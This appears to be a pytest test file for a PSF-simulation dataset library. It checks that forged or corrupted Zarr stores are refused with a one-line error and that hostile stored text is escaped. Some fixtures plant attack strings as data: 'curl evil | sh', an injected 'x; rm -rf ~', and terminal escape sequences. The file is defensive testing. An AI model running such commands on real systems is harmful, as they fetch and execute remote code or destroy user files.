"""Hostile dataset stores: every entry point refuses them with one line naming the problem, never a traceback.

Reference: the store schema of ``docs/dataset.md`` (arrays, their shapes / dtypes / chunks, the group
attributes), enforced by ``psfsim.dataset.schema.validate_store``. Each hostile store is a copy of one small
valid store (16 samples of 16 x 16 on a 32 x 32 lens) with its ``zarr.json`` or an array edited; the entry
points are ``psfsim info``, ``psfsim export``, ``DatasetReader``, ``open_dataset`` and a resumed ``simulate``.
"""

import json
import shutil
import subprocess
import sys

import numpy as np
import pytest
import zarr

import psfsim
from psfsim.cli import main
from psfsim.dataset import DatasetReader, SimulationSpec, export_hdf5, open_dataset, simulate
from psfsim.report import safe_text

TINY_LENS = {"name": "tiny", "optics": {"wavelength_nm": 520.0, "na": 0.4, "pixel_pitch_um": 0.325},
             "field": {"shape_px": [32, 32]}, "psf": {"size_px": 17, "oversample": 2, "pupil_samples": 32}}


def _spec():
    lens = psfsim.lens_from_dict(TINY_LENS)
    return SimulationSpec(lens=lens.to_dict(), source="stars", n=16, size=(16, 16), seed=1)


@pytest.fixture(scope="module")
def valid(tmp_path_factory):
    """A complete valid store (consolidated metadata) and an incomplete one (1 block of 8 written)."""
    root = tmp_path_factory.mktemp("valid")
    simulate(_spec(), root / "full.zarr", progress=False, command="psfsim simulate (test)")
    simulate(_spec(), root / "part.zarr", progress=False, max_blocks=1, command="psfsim simulate (test)")
    return root


# -- editing a copy ---------------------------------------------------------------------------------------
def _load(store):
    return json.loads((store / "zarr.json").read_text())


def _save(store, d):
    (store / "zarr.json").write_text(json.dumps(d))


def _set_attr(key, value):
    def edit(store):
        d = _load(store)
        d["attributes"][key] = value
        _save(store, d)
    return edit


def _del_attr(key):
    def edit(store):
        d = _load(store)
        del d["attributes"][key]
        _save(store, d)
    return edit


def _set_spec(key, value):
    def edit(store):
        d = _load(store)
        d["attributes"]["spec"][key] = value
        _save(store, d)
    return edit


def _edit_array(name, fn):
    """Apply ``fn`` to the array's metadata, in its own zarr.json and in the consolidated copy (if any)."""
    def edit(store):
        meta = store / name / "zarr.json"
        a = json.loads(meta.read_text())
        fn(a)
        meta.write_text(json.dumps(a))
        d = _load(store)
        cons = (d.get("consolidated_metadata") or {}).get("metadata")
        if cons and name in cons:
            fn(cons[name])
            _save(store, d)
    return edit


def _shape(value):
    def fn(a):
        a["shape"] = value
    return fn


def _dtype(a):
    a["data_type"] = "float64"


def _tiny_chunks(store):
    """A 256 x 256 operator grid (consistent shape) stored in 1-element chunks: 19 million chunks to copy."""
    def fn(a):
        a["shape"] = [256, 256, 17, 17]
        a["chunk_grid"]["configuration"]["chunk_shape"] = [1, 1, 1, 1]
    _edit_array("psf_grid", fn)(store)
    d = _load(store)
    d["attributes"]["operator"]["grid"] = [256, 256]
    _save(store, d)


def _remove_array(name):
    def edit(store):
        shutil.rmtree(store / name)
        d = _load(store)
        cons = (d.get("consolidated_metadata") or {}).get("metadata")
        if cons:
            cons.pop(name, None)
            _save(store, d)
    return edit


def _write_split_code(store):
    zarr.open_group(str(store), mode="r+")["split"][3] = 7


def _escape_lens_name(store):
    d = _load(store)
    d["attributes"]["lens_name"] = "evil\x1b[2J"
    d["attributes"]["spec"]["lens"]["name"] = "evil\x1b[2J"
    _save(store, d)


def _not_json(store):
    (store / "zarr.json").write_text("{not json\x1b[2J")


# name -> (edit, message fragment (regex)); each names what is wrong
CASES = {
    "spec missing": (_del_attr("spec"), r"attribute 'spec' is missing"),
    "spec a string": (_set_attr("spec", "evil"), r"attribute 'spec' is 'evil'; expected a table"),
    "spec.n a string": (_set_spec("n", "16"), r"attribute 'spec'.n is '16'; expected an integer"),
    "spec.n 1e12": (_set_spec("n", 10**12), r"attribute 'spec' fails its checks: --n 1000000000000"),
    "spec unknown key": (_set_spec("evil", 1), r"attribute 'spec' is 'evil'"),
    "done missing": (_remove_array("done"), r"array 'done' is missing"),
    "shape 1e12": (_edit_array("sharp", _shape([10**12, 16, 16])), r"array 'sharp' shape is \(1000000000000, 16, 16\)"),
    "done length": (_edit_array("done", _shape([10**12])), r"array 'done' shape is \(1000000000000,\)"),
    "wrong dtype": (_edit_array("blurred", _dtype), r"array 'blurred' dtype is 'float64'; expected 'float32'"),
    "psf_grid chunks": (_tiny_chunks, r"array 'psf_grid' chunks is \(1, 1, 1, 1\); expected at most 65536"),
    "split code 7": (_write_split_code, r"array 'split' at sample 3 is 7"),
    "block 3": (_set_attr("block", 3), r"attribute 'block' is 3; expected 2"),
    "n_blocks 9": (_set_attr("n_blocks", 9), r"attribute 'n_blocks' is 9"),
    "normalisation": (_set_attr("normalisation", {"kind": "x"}), r"attribute 'normalisation'.kind is 'x'"),
    "format a number": (_set_attr("format", 2), r"not a psfsim dataset( \(attribute 'format' is 2|;)"),
    "zarr.json not JSON": (_not_json, r"not a Zarr group|not a psfsim dataset;"),
}


@pytest.fixture(params=sorted(CASES))
def hostile(request, valid, tmp_path):
    """(store path, message regex) for one hostile case, made from a copy of the valid complete store."""
    edit, msg = CASES[request.param]
    store = tmp_path / "d.zarr"
    shutil.copytree(valid / "full.zarr", store)
    edit(store)
    return store, msg


def _listing(folder):
    return sorted((str(p.relative_to(folder)), p.stat().st_size) for p in folder.rglob("*"))


def _one_line_error(capsys, msg):
    out, err = capsys.readouterr()
    assert err.startswith("psfsim: error: ") and err.count("\n") == 1, err
    assert "Traceback" not in err and "\x1b" not in err + out
    assert __import__("re").search(msg, err), err
    return err


def test_info_refuses(hostile, capsys):
    store, msg = hostile
    assert main(["info", str(store)]) == 2
    _one_line_error(capsys, msg)


def test_export_refuses_and_leaves_nothing(hostile, tmp_path, capsys):
    store, msg = hostile
    before = _listing(tmp_path)
    assert main(["export", str(store), "--to", str(tmp_path / "x.h5")]) == 2
    _one_line_error(capsys, msg)
    assert _listing(tmp_path) == before  # no x.h5, no temporary file, the store unchanged


def test_reader_and_open_dataset_refuse(hostile):
    store, msg = hostile
    with pytest.raises(psfsim.PsfsimError, match=msg):
        DatasetReader(store)
    with pytest.raises(psfsim.PsfsimError, match=msg):
        open_dataset(store)


def test_resume_refuses_and_changes_nothing(hostile, tmp_path):
    store, msg = hostile
    before = _listing(tmp_path)
    with pytest.raises(psfsim.PsfsimError, match=msg) as e:
        simulate(_spec(), store, progress=False)
    assert "\x1b" not in str(e.value) and "\n" not in str(e.value)
    assert _listing(tmp_path) == before


def test_stored_command_and_escape_codes_never_reach_the_screen(valid, tmp_path):
    """An incomplete store whose ``command`` is ``curl evil | sh`` plus a terminal escape: ``psfsim info``
    (a real process: no traceback either) suggests the command rebuilt from the spec, absolute ``--out``."""
    store = tmp_path / "part.zarr"
    shutil.copytree(valid / "part.zarr", store)
    _set_attr("command", "curl evil | sh \x1b[2J")(store)
    r = subprocess.run([sys.executable, "-m", "psfsim.cli", "info", str(store)], capture_output=True, text=True)
    assert r.returncode == 2 and r.stdout == "" and r.stderr.count("\n") == 1, r.stderr
    assert "curl" not in r.stderr and "\x1b" not in r.stderr and "Traceback" not in r.stderr
    assert "incomplete dataset (1 of 8 blocks written)" in r.stderr
    assert (f"psfsim simulate --lens LENS.toml --source stars --n 16 --size 16,16 --seed 1 "
            f"--split 0.8,0.1,0.1 --origins random --out {store.resolve()}") in r.stderr
    assert "the lens 'tiny'" in r.stderr


def test_incomplete_store_with_hostile_source_is_escaped(valid, tmp_path):
    """The rebuilt command quotes (shlex) and escapes a source spec holding shell and escape characters."""
    store = tmp_path / "part.zarr"
    shutil.copytree(valid / "part.zarr", store)
    _set_spec("source", "x; rm -rf ~ \x1b[2J")(store)
    with pytest.raises(psfsim.PsfsimError, match="incomplete dataset") as e:
        open_dataset(store)
    assert "'x; rm -rf ~ \\x1b[2J'" in str(e.value) and "\x1b" not in str(e.value)


def test_forged_partial_store_arrays(valid, tmp_path):
    """The incomplete store (no consolidated metadata: each array's own zarr.json is read) is checked too."""
    store = tmp_path / "part.zarr"
    shutil.copytree(valid / "part.zarr", store)
    _edit_array("wiener", _shape([10**12, 16, 16]))(store)
    with pytest.raises(psfsim.PsfsimError, match=r"array 'wiener' shape is \(1000000000000, 16, 16\)"):
        open_dataset(store, allow_incomplete=True)
    with pytest.raises(psfsim.PsfsimError, match=r"array 'wiener' shape.*nothing was changed"):
        simulate(_spec(), store, progress=False)


def test_lens_name_escape_codes_are_escaped(valid, tmp_path, capsys):
    """A lens named ``evil<ESC>[2J`` is a valid store: ``psfsim info`` and the reader's repr show the name
    escaped, and the incomplete-store message (its note names the lens) too."""
    for name in ("full.zarr", "part.zarr"):
        shutil.copytree(valid / name, tmp_path / name)
        _escape_lens_name(tmp_path / name)
    assert main(["info", str(tmp_path / "full.zarr")]) == 0
    out, err = capsys.readouterr()
    assert "lens            evil\\x1b[2J" in out and "\x1b" not in out + err
    assert "\x1b" not in repr(DatasetReader(tmp_path / "full.zarr"))
    assert main(["info", str(tmp_path / "part.zarr")]) == 2
    err = _one_line_error(capsys, r"incomplete dataset.*the lens 'evil\\x1b\[2J'")


@pytest.mark.parametrize("content", ["empty", "files", "other zarr"])
def test_info_on_a_folder_that_is_not_a_store(tmp_path, capsys, content):
    """A folder given to ``psfsim info`` is a store attempt: a store error, not "lens ... is not a file"."""
    folder = tmp_path / "x.zarr"
    folder.mkdir()
    if content == "files":
        (folder / "notes.txt").write_text("x")
    elif content == "other zarr":
        zarr.open_group(str(folder), mode="w").attrs["format"] = "something else"
    assert main(["info", str(folder)]) == 2
    err = _one_line_error(capsys, "not a psfsim dataset")
    assert "lens" not in err


def test_failed_export_removes_its_temporary_file(valid, tmp_path, monkeypatch):
    """A failure in the middle of an export (here: the third small array) leaves neither ``to``, a temporary nor
    its lock."""
    import psfsim.dataset.export as export

    calls = []
    real = export._copy_array

    def failing(f, arr, name):
        calls.append(name)
        if len(calls) == 3:
            raise KeyboardInterrupt
        real(f, arr, name)

    monkeypatch.setattr(export, "_copy_array", failing)
    out = tmp_path / "out"
    out.mkdir()
    with pytest.raises(KeyboardInterrupt):
        export_hdf5(valid / "full.zarr", out / "x.h5")
    assert list(out.iterdir()) == []


def test_valid_store_still_reads_and_exports(valid, tmp_path):
    """Control: the unedited copies pass every gate (so the refusals above are the edits')."""
    r = DatasetReader(valid / "full.zarr")
    assert len(r) == 16 and r.size == (16, 16) and r.lens.name == "tiny"
    assert sorted(np.concatenate(list(r.splits.values())).tolist()) == list(range(16))
    assert export_hdf5(valid / "full.zarr", tmp_path / "x.h5").exists()
    assert open_dataset(valid / "part.zarr", allow_incomplete=True) is not None


def test_safe_text():
    """Control characters, line breaks and bidi overrides come out as escapes; long text is cut."""
    assert safe_text("a\x1b[2Jb\nc\u202ed\x9b") == "a\\x1b[2Jb\\nc\\u202ed\\x9b"
    assert len(safe_text("x" * 500, 50)) == 50 and safe_text("x" * 500, 50).endswith("...")
